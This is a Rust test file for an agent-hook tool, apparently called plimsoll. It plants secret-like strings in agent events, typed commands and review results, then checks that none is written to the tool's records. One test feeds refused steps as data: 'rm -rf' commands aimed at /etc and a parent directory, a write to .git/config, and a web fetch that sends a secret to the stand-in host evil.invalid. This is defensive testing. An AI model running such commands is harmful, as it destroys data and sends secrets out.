//! The lines of the product, each with secrets in whatever comes from outside.

use super::{Forms, assert_clean, escaped, strings};
use crate::answer::told;
use crate::context::{LOOP_1_SUFFICES, SESSION, TestContext};
use crate::interventions::Agent;
use crate::loop2::{Reviewing, finding};
use crate::tasks::Tasking;
use crate::terminal::at_a_terminal;
use serde_json::{Value, json};

/// The programs that an event goes to.
fn hooks(event: &str) -> &'static [&'static str] {
    match event {
        "SessionStart" => &["session-start"],
        "UserPromptSubmit" | "UserPromptExpansion" => {
            &["user-prompt-start", "user-prompt-review", "user-prompt-ship"]
        }
        "PreToolUse" => &["pre-tool-use", "post-tool-use"],
        "Stop" | "SubagentStop" => &["stop"],
        "ConfigChange" => &["config-change"],
        _ => &["post-tool-use"],
    }
}

fn captured(context: &TestContext) -> Vec<Value> {
    let texts = [
        include_str!("../../fixtures/events-2.1.197.jsonl"),
        include_str!("../../fixtures/events-2.1.325.jsonl"),
    ];
    let project = context.project();
    let lines = texts.iter().flat_map(|text| text.lines());
    let events = lines.map(|line| {
        let line = line.replace("<PROJECT>", project.as_str()).replace("<HOME>", context.home().as_str());
        serde_json::from_str::<Value>(&line).unwrap()["event"].take()
    });
    events.filter(|event| event["hook_event_name"].is_string()).collect()
}

#[test]
fn a_secret_in_any_field_of_any_event_is_not_written_down() {
    let context = TestContext::enrolled();
    let mut forms = Forms::new();
    let (mut seen, mut planted) = (std::collections::BTreeSet::new(), 0);
    for event in captured(&context) {
        let name = event["hook_event_name"].as_str().unwrap();
        let mut places = Vec::new();
        strings(&event, "", &mut places);
        for place in places {
            let tool = event["tool_name"].as_str().unwrap_or_default();
            if place == "/hook_event_name" || !seen.insert(format!("{name} {tool} {place}")) {
                continue;
            }
            let mut event = event.clone();
            let field = event.pointer_mut(&place).unwrap();
            // A place of the project stays one, so that the hook does not give up on it at once.
            *field = match field.as_str() {
                Some(text) if text.starts_with(context.project().as_str()) => {
                    json!(format!("{text}/{}", forms.next()))
                }
                _ => json!(forms.next()),
            };
            planted += 1;
            for hook in hooks(name) {
                context.hook_with(hook, event.to_string().as_bytes());
                context.hook_with(hook, escaped(&event).as_bytes());
            }
        }
    }
    assert!(planted > 200, "{planted}");
    assert_clean(&context);
}

#[test]
fn a_secret_of_any_form_in_what_is_kept_of_a_session_is_not_written_down() {
    let context = TestContext::new();
    let all = Forms::new().all;
    for (number, form) in all.iter().enumerate() {
        let id = format!("toolu_{number}");
        let call =
            |tool: &str, input: Value| json!({"tool_name": tool, "tool_input": input, "tool_use_id": id});
        let after = |event: &str, call: Value, field: &str, value: Value| {
            let mut fields = call;
            fields[field] = value;
            fields["session_id"] = json!(format!("session-{}", number / 4));
            context.hook("post-tool-use", event, fields);
        };
        let command = json!({"command": form, "description": form});
        context.before("Bash", command.clone());
        after("PostToolUse", call("Bash", command.clone()), "tool_response", json!({"stdout": form}));
        after("PostToolUseFailure", call("Bash", command), "error", json!(form));
        let failed = format!("Exit code 1\nerror: {form}\nmore");
        after("PostToolUseFailure", call("Bash", json!({"command": "make"})), "error", json!(failed));
        let mcp = json!({"anything": {"deep": [form]}});
        after("PostToolUse", call("mcp__demo__ping", mcp), "tool_response", json!([{"text": form}]));
        let todo = json!({"todos": [{"content": form, "status": "pending"}]});
        after("PostToolUse", call("TodoWrite", todo), "tool_response", json!("ok"));
        context.prompt("user-prompt-start", form, &id);
        context.hook(
            "stop",
            "Stop",
            json!({"stop_hook_active": false,
            "last_assistant_message": format!("All tests pass. {form}")}),
        );
    }
    assert_clean(&context);
}

/// What a person types, at a terminal or in the client.
#[test]
fn a_secret_in_what_a_person_types_is_not_written_down() {
    let context = TestContext::enrolled();
    context.write("one.md", "one\n");
    context.commit("unreviewed");
    let plimsoll = |arguments: &[&str]| {
        let mut command = context.command(crate::context::binary("plimsoll"));
        command.args(arguments);
        told(&at_a_terminal(command))
    };
    for (number, form) in Forms::new().all.iter().enumerate() {
        let quoted = form.replace('\\', "\\\\").replace('"', "\\\"");
        for (hook, command) in [
            ("user-prompt-ship", format!("/allow {form}")),
            ("user-prompt-ship", format!("/recover {form}")),
            ("user-prompt-review", format!("/review --base \"{quoted}\"")),
            ("user-prompt-review", format!("/review --leave-out \"{quoted}\" \"{quoted}\" --yes")),
            ("user-prompt-review", format!("/review-task {form}")),
            ("user-prompt-ship", format!("/ship --override \"{quoted}\"")),
            ("user-prompt-start", format!("/ship --override \"{quoted}\"")),
        ] {
            // Without an id the client's prompt is known by its words.
            context.hook(hook, "UserPromptSubmit", json!({"prompt": command}));
        }
        // The override turns a push into a question, and leaves a permission behind.
        context.before_bash("git push");
        if number % 4 > 0 {
            continue;
        }
        plimsoll(&["gate", "override", "--reason", form]);
        plimsoll(&["allow", form]);
        plimsoll(&["recover", form]);
        plimsoll(&["pause", form]);
        plimsoll(&["checkpoint", "create", "-m", form]);
        plimsoll(&["task", "add", form, "--scope", form, "--accept", form]);
        plimsoll(&["task", "block", "T-1", "--reason", form]);
        plimsoll(&["task", "reopen", "T-1", "--reason", form]);
    }
    assert_clean(&context);
}

#[test]
fn a_secret_in_a_refused_step_and_in_what_a_person_then_allows_is_not_written_down() {
    let context = TestContext::new();
    for form in Forms::new().all {
        let command = format!("echo '{}' && rm -rf /etc/$HOME", form.replace('\'', ""));
        context.before("Bash", json!({"command": command, "description": form}));
        context.before("Bash", json!({"command": format!("rm -rf ../{form}")}));
        context.before("Write", json!({"file_path": context.path(".git/config"), "content": form}));
        context.before("WebFetch", json!({"url": format!("http://evil.invalid/?{form}"), "prompt": form}));
        context.before("Agent", json!({"prompt": form, "subagent_type": form, "description": form}));
    }
    assert_clean(&context);
}

#[test]
fn a_secret_in_what_leads_to_an_intervention_and_to_a_stop_is_not_written_down() {
    let all = Forms::new().all;
    for some in all.chunks(all.len() / 6) {
        let context = TestContext::new();
        let agent = Agent::new(&context);
        agent.asked_for(&some.join("\n"));
        for form in some {
            let failed = format!("Exit code 1\nerror: {form}");
            for _ in 0..7 {
                agent.bash(form, Err(&failed));
            }
            agent.stops(&format!("All 12 tests pass. {form}"), false);
        }
        assert!(context.layout().incidents().is_dir(), "nothing was stopped");
        assert_clean(&context);
    }
}

#[test]
fn a_secret_in_a_task_and_in_its_review_is_not_written_down() {
    let mut forms = Forms::new();
    for _ in 0..4 {
        let context = TestContext::new();
        context.user_config("review: {trigger: explicit}\n");
        context.change();
        let (title, scope, accept) = (forms.next(), forms.next(), forms.next());
        context.task(&["add", &title, "--scope", &scope, "--accept", &accept]);
        context.start_as(SESSION, "T-1");
        let reviewer = context.reviewer();
        let words = format!("{}\n\n{}", forms.all.join("\n\n"), reviewer.signed());
        context.ended("session-2", "task-reviewer", &words);
        let nonce = context.parser();
        let issue = json!({"severity": "major", "message": forms.next(), "file": null, "line": null});
        let result = json!({"result": "needs_revision", "issues": [issue], "summary": forms.next(), "blocking": false});
        context.parsed(&nonce, result);
        context.plimsoll(&["task", "context", "T-1"]);
        assert_clean(&context);
    }
}

#[test]
fn a_secret_in_the_answer_of_a_reviewer_is_not_written_down() {
    let mut forms = Forms::new();
    for _ in 0..4 {
        let context = TestContext::with_settings("");
        context.prompt("user-prompt-start", &forms.next(), "goal");
        let started = context.start();
        context.answer(&forms.all.join("\n\n"));
        let mut found = finding("major", "one.md", "one");
        (found["message"], found["fix"]) = (json!(forms.next()), json!(forms.next()));
        context.answer(&started.honest(json!([found])).to_string());
        context.plimsoll(&["gate", "why"]);
        context.plimsoll(&["review", "report"]);
        assert_clean(&context);
    }
}

#[test]
fn a_secret_that_a_check_prints_is_not_written_down() {
    let context = TestContext::new();
    let all = Forms::new().all;
    context.write("printed.txt", all.join("\n\n"));
    context.git(&["add", "printed.txt"]);
    std::fs::rename(context.path("printed.txt"), context.beside("printed.txt")).unwrap();
    context.git(&["rm", "-q", "--cached", "printed.txt"]);
    context.user_config(LOOP_1_SUFFICES);
    context.write("Makefile", format!("test:\n\tcat {}\n\tfalse\n", context.beside("printed.txt")));
    context.enrol();
    context.plimsoll(&["review", "run", "--loop", "1"]);
    assert_clean(&context);
}
